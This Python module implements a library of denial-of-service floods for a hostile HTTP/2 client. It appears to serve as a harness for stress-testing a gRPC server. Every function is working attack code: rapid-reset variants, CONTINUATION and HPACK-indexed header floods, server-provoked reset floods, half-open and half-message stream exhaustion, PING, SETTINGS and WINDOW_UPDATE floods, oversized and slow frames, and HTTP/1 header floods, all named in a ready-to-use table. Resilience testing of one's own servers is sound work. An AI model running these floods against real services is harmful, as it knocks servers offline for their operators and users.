"""The floods of a hostile HTTP/2 client: KINDS lists them by name.

Each flood is a generator. It yields bytes, which are written one after the other, and floats, which
are seconds of silence. `link` is the Connection. Frames are prepared in blocks, so that Python is
no bottleneck.
"""

import dataclasses
import struct
import typing

from http2_frames import (ACK, BLOCK, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM,
                          HAS_PRIORITY, HEADERS, MAX_FRAME, PING, PRIORITY, RST_STREAM, SETTINGS,
                          WINDOW_UPDATE, fill, frame, literal, rst_stream)


def continuation(link):
    """Sends an endless header block, with one field of 200 bytes per frame."""
    field = literal("x-flood", "a" * 190)
    yield frame(HEADERS, 0, stream := link.next_stream(), link.target.call())
    block = fill(frame(CONTINUATION, 0, stream, field))
    while True:
        yield block


def continuation_indexed(references):
    """Puts a field of 4 KiB into the dynamic table, then refers to it by one byte, `references`
    times per frame. gRPC 1.51 ends the connection if a frame continues after 16 KiB of metadata."""
    def script(link):
        big = literal("x", "a" * 4000, first=0x40)
        yield frame(HEADERS, 0, stream := link.next_stream(), link.target.call() + big)
        newest = b"\xbe"  # The newest entry has index 62.
        block = fill(frame(CONTINUATION, 0, stream, newest * references))
        while True:
            yield block
    return script


def calls_indexed(link):
    """Makes calls that name a field of 3.5 KiB three times, by one byte each: under 16 KiB."""
    big = literal("x", "a" * 3500, first=0x40)
    yield frame(HEADERS, END_HEADERS, stream := link.next_stream(), link.target.call() + big)
    yield rst_stream(stream)
    yield from _pairs(link, link.target.call() + b"\xbe\xbe\xbe", 16)


def empty_continuation(link):
    yield frame(HEADERS, 0, stream := link.next_stream(), link.target.call())
    block = fill(frame(CONTINUATION, 0, stream))
    while True:
        yield block


def _pairs(link, headers, count):
    """Returns HEADERS and RST_STREAM, `count` pairs per write."""
    pair = struct.Struct(f">IBI{len(headers)}sIBII")
    begin, end = len(headers) << 8 | HEADERS, 4 << 8 | RST_STREAM
    while True:
        streams = link.next_streams(count)
        yield b"".join([pair.pack(begin, END_HEADERS, stream, headers, end, 0, stream, CANCEL)
                        for stream in streams])


def _indexed_call(link):
    """Returns a call that puts its fields into the dynamic table, and the fields of later calls."""
    fields = [(name, value) for name, value in link.target.fields()
              if name not in (":method", ":scheme")]
    pseudo = b"\x83" + (b"\x87" if link.target.tls_ca else b"\x86")
    table = b"".join(literal(name, value, first=0x40) for name, value in fields)
    stream = link.next_stream()
    first = frame(HEADERS, END_HEADERS, stream, pseudo + table) + rst_stream(stream)
    return first, pseudo + bytes(0x80 | 61 + len(fields) - i for i in range(len(fields)))


def rapid_reset(count, indexed):
    def script(link):
        headers = link.target.call()
        if indexed:
            first, headers = _indexed_call(link)
            yield first
        yield from _pairs(link, headers, count)
    return script


def rapid_reset_fragmented(link):
    """Writes 5 bytes at a time, so that no frame's header comes in one piece."""
    for block in _pairs(link, link.target.call(), 16):
        for at in range(0, len(block), 5):
            yield block[at:at + 5]


def rapid_reset_priority(link):
    """Sends HEADERS with a priority before the fields."""
    headers = struct.pack(">IB", 0, 16) + link.target.call()
    while True:
        yield b"".join([frame(HEADERS, END_HEADERS | HAS_PRIORITY, stream, headers)
                        + rst_stream(stream) for stream in link.next_streams(16)])


def rapid_reset_paced(link):
    """Sends 16 pairs every 20 ms, which one connection may do but fifty may not."""
    for block in _pairs(link, link.target.call(), 16):
        yield block
        yield 0.02


def made_you_reset(spoil):
    """Makes calls that the server resets. spoil(stream) makes the frame that causes the reset."""
    def script(link):
        headers = link.target.call()
        while True:
            yield b"".join([frame(HEADERS, END_HEADERS, stream, headers) + spoil(stream)
                            for stream in link.next_streams(16)])
    return script


def half_open(extra=0, indexed=False):
    """Never ends a call; each has `extra` bytes of metadata."""
    def script(link):
        headers = link.target.call() + (literal("x", "a" * extra) if extra else b"")
        if indexed:
            first, headers = _indexed_call(link)
            yield first
        count = max(1, BLOCK // (len(headers) + 9))
        while True:
            yield b"".join([frame(HEADERS, END_HEADERS, stream, headers)
                            for stream in link.next_streams(count)])
    return script


def refused(link):
    """Makes complete calls of an unknown method, never more at a time than the server allows."""
    headers = link.target.call().replace(link.target.path.encode(), b"x" * len(link.target.path))
    while True:
        room = 30 - (link.calls - link.answered)
        yield b"".join([frame(HEADERS, END_HEADERS | END_STREAM, stream, headers)
                        for stream in link.next_streams(room)]) if room > 0 else 0.0005


def ping(link):
    block = fill(frame(PING, 0, 0, b"floodfld"))
    while True:
        yield block


def ping_ack(link):
    """Answers pings that nobody sent."""
    block = fill(frame(PING, ACK, 0, b"floodfld"))
    while True:
        yield block


def settings(link):
    values = struct.pack(">HIHI", 4, 65535, 1, 4096)  # INITIAL_WINDOW_SIZE, HEADER_TABLE_SIZE
    block = fill(frame(SETTINGS, 0, 0, values))
    while True:
        yield block


def settings_windows(link):
    """Sends SETTINGS, each of which takes back the window that the previous one gave."""
    block = fill(b"".join(frame(SETTINGS, 0, 0, struct.pack(">HIHI", 4, size, 1, size & 4096))
                          for size in (0, 65535 & ~4096)))
    yield frame(HEADERS, END_HEADERS, link.next_stream(), link.target.call())
    while True:
        yield block


def window_update(link):
    """Opens the connection's window byte by byte."""
    update = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    block = fill(update)
    while True:
        yield block


def priority(link):
    block = fill(b"".join(frame(PRIORITY, 0, 2 * i + 1, struct.pack(">IB", 0, 16))
                          for i in range(1000, 5000)))
    while True:
        yield block


def unknown(link):
    """Sends frames of an unknown type, which a server must ignore."""
    block = fill(frame(0x2a, 0, 0, b"flood"))
    while True:
        yield block


def data_unasked(link):
    """Sends DATA on a call that was reset, within the connection's window."""
    stream = link.next_stream()
    yield frame(HEADERS, END_HEADERS, stream, link.target.call()) + rst_stream(stream)
    piece = frame(DATA, 0, stream, b"x")
    while True:
        count = min(link.window, BLOCK // len(piece))
        link.window -= count
        yield piece * count if count else 0.001


def zero_length_data(link):
    stream = link.next_stream()
    yield frame(HEADERS, END_HEADERS, stream, link.target.call())
    block = fill(frame(DATA, 0, stream))
    while True:
        yield block


def trailers(link):
    """Sends HEADERS again and again on one call."""
    stream = link.next_stream()
    yield frame(HEADERS, END_HEADERS, stream, link.target.call())
    block = fill(frame(HEADERS, END_HEADERS, stream, literal("x-trailer", "a" * 1000)))
    while True:
        yield block


def half_messages(link):
    """Opens as many calls as it may. Sends each a message of 4 MiB without the last byte."""
    size = 4 << 20
    message = memoryview(b"\0" + struct.pack(">I", size) + b"x" * (size - 1))
    left = {}
    for stream in link.next_streams(30):
        yield frame(HEADERS, END_HEADERS, stream, link.target.call())
        left[stream] = message
    while True:
        sent = False
        for stream, text in left.items():
            count = min(len(text), MAX_FRAME, link.window, link.windows[stream])
            if count > 0:
                link.window -= count
                link.windows[stream] -= count
                left[stream] = text[count:]
                sent = True
                yield frame(DATA, 0, stream, bytes(text[:count]))
        if not sent:
            yield 0.001


def huge_frame(link):
    """Sends a frame of 16 MiB, a thousand times the allowed size."""
    yield struct.pack(">IBI", 0xffffff << 8 | DATA, 0, 1)
    while True:
        yield bytes(BLOCK)


def slow(link):
    """Sends a frame that never ends, one byte per second."""
    yield frame(HEADERS, END_HEADERS, link.next_stream(), link.target.call())[:-40]
    while True:
        yield 1.0
        yield b"\x10"


def once(link):
    """Sends one call and its reset, then ends the connection."""
    stream = link.next_stream()
    yield frame(HEADERS, END_HEADERS, stream, link.target.call()) + rst_stream(stream)


def http1_headers(link):
    yield f"GET /metrics HTTP/1.1\r\nHost: {link.target.host}\r\n".encode()
    block = fill(b"X-Flood: " + b"a" * 190 + b"\r\n")
    while True:
        yield block


def http1_line(link):
    yield b"GET /"
    while True:
        yield b"a" * BLOCK


def http1_requests(link):
    """Sends one request after the other and reads no answer."""
    block = fill(f"GET /metrics HTTP/1.1\r\nHost: {link.target.host}\r\n\r\n".encode())
    while True:
        yield block


@dataclasses.dataclass(frozen=True)
class Kind:
    script: typing.Callable
    acks: bool = True  # Acknowledges the server's SETTINGS.
    reads: bool = True  # Reads the server's frames.
    greets: bool = True  # Waits for the server's SETTINGS first.
    aborts: bool = False  # Ends its TCP connection with RST.
    speaks_http2: bool = True


KINDS = {
    "continuation": Kind(continuation),
    "continuation-indexed": Kind(continuation_indexed(1)),
    "continuation-indexed-bulk": Kind(continuation_indexed(MAX_FRAME)),
    "empty-continuation": Kind(empty_continuation),
    "rapid-reset": Kind(rapid_reset(16, indexed=False)),
    "rapid-reset-bulk": Kind(rapid_reset(400, indexed=False)),
    "rapid-reset-indexed": Kind(rapid_reset(16, indexed=True)),
    "rapid-reset-indexed-bulk": Kind(rapid_reset(2000, indexed=True)),
    "rapid-reset-fragmented": Kind(rapid_reset_fragmented),
    "rapid-reset-priority": Kind(rapid_reset_priority),
    "rapid-reset-paced": Kind(rapid_reset_paced),
    "reset-by-window": Kind(made_you_reset(
        lambda stream: frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7fffffff)))),
    "reset-by-no-window": Kind(made_you_reset(
        lambda stream: frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)))),
    "reset-by-headers": Kind(made_you_reset(
        lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, literal("Bad", "\n")))),
    "reset-by-end": Kind(made_you_reset(
        lambda stream: frame(DATA, END_STREAM, stream, b"\xff\xff\xff\xff\xff"))),
    "calls-indexed": Kind(calls_indexed),
    "half-open": Kind(half_open()),
    "half-open-unacked": Kind(half_open(), acks=False),
    "half-open-unacked-indexed": Kind(half_open(indexed=True), acks=False),
    "half-open-unacked-large": Kind(half_open(extra=15 << 10), acks=False),
    "refused": Kind(refused),
    "ping": Kind(ping),
    "ping-unacked": Kind(ping, acks=False),
    "ping-unread": Kind(ping, reads=False),
    "ping-ack": Kind(ping_ack),
    "settings": Kind(settings),
    "settings-unread": Kind(settings, reads=False),
    "settings-windows": Kind(settings_windows),
    "window-update": Kind(window_update),
    "priority": Kind(priority),
    "unknown-frames": Kind(unknown),
    "data-unasked": Kind(data_unasked),
    "zero-length-data": Kind(zero_length_data),
    "trailers": Kind(trailers),
    "half-messages": Kind(half_messages),
    "huge-frame": Kind(huge_frame),
    "slow": Kind(slow),
    "reconnect": Kind(once, greets=False),
    "abort": Kind(once, greets=False, aborts=True),
    "http1-headers": Kind(http1_headers, speaks_http2=False),
    "http1-line": Kind(http1_line, speaks_http2=False),
    "http1-requests": Kind(http1_requests, speaks_http2=False, reads=False),
}
